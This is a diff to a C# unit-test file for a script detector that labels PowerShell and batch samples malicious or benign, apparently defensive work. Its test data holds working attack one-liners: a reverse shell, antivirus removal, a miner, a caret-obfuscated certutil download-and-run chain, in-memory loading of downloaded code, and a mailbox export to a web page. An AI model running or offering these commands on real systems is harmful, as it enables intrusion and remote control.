@@ -16,6 +16,10 @@ public sealed class JudgementTests
     [InlineData("$c = New-Object Net.Sockets.TCPClient('203.0.113.9',443); $s=$c.GetStream(); while(($i=$s.Read($b,0,$b.Length)) -ne 0){ $r = (iex $d 2>&1 | Out-String); $s.Write($r,0,$r.Length) }", "reverse-shell")]
     [InlineData("cmd /c \"wmic product where \"name like '%Eset%'\" call uninstall /nointeractive\"; cmd /c \"wmic product where \"name like '%Kaspersky%'\" call uninstall\"", "security-products-removed")]
     [InlineData("Start-Process x.exe -ArgumentList '-o stratum+tcp://pool.example:3333 -u 4A'", "miner")]
+    [InlineData("$b=(New-Object Net.WebClient).DownloadData('http://192.0.2.8/x.png'); $o=@(); foreach($x in $b){$o+=$x -bxor 0x2a}; [Reflection.Assembly]::Load([byte[]]$o)", "assembly-from-bytes")]
+    [InlineData("$l=New-Object Net.HttpListener; $l.Start(); $c=$l.GetContext(); $r=New-Object IO.StreamReader $c.Request.InputStream; $o=iex $r.ReadToEnd()", "download-and-execute")]
+    [InlineData("New-MailboxExportRequest -Mailbox a -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\x.aspx", "mailbox-exported-as-page")]
+    [InlineData("@echo off\nset x=c^e^r^t^u^t^i^l\n%x% -urlcache -split -f http://192.0.2.8/a.txt %temp%\\a.txt & %x% -decode %temp%\\a.txt %temp%\\a.exe & start %temp%\\a.exe", "download-to-file-and-run")]
     public void Intruders_scripts_are_called_malicious(string script, string reason)
     {
         var judgement = Deobfuscator.Judge(script);
@@ -32,6 +36,8 @@ public sealed class JudgementTests
     [InlineData("# sekurlsa::logonpasswords is what we look for\nGet-WinEvent -LogName Security | Where-Object Id -eq 4624")]
     [InlineData("Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Export-Csv C:\\report.csv")]
     [InlineData("Set-MpPreference -DisableRealtimeMonitoring $false")]
+    [InlineData("New-MailboxExportRequest -Mailbox leaver -FilePath \\\\fs01\\pst$\\leaver.pst")]
+    [InlineData("$l=New-Object Net.HttpListener; $l.Start(); $c=$l.GetContext(); $b=[Text.Encoding]::UTF8.GetBytes('up'); $c.Response.OutputStream.Write($b,0,2)")]
     public void Administrators_scripts_are_not(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);
 
     [Fact]
